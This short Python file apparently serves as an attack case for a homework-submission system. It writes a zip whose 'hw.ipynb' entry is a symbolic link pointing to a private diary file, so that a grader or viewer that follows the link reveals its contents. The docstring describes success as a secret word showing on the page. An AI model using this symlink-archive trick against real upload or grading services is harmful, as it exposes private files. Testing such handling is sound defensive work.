"""Comes in a zip that holds a symbolic link to a private file.

Success: a secret word stands on its page.
Succeeds: not tried, since it harms who opens the file with other tools, or a grader that trusts it
"""

import stat
from zipfile import ZipFile, ZipInfo
from pathlib import Path

from handed_in import write


def hand_in(students: Path, name: str) -> None:
    link = ZipInfo("hw.ipynb")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with ZipFile(students / f"{name}.zip", "w") as archive:
        archive.writestr(link, str(students.parent / "private" / "diary.txt"))
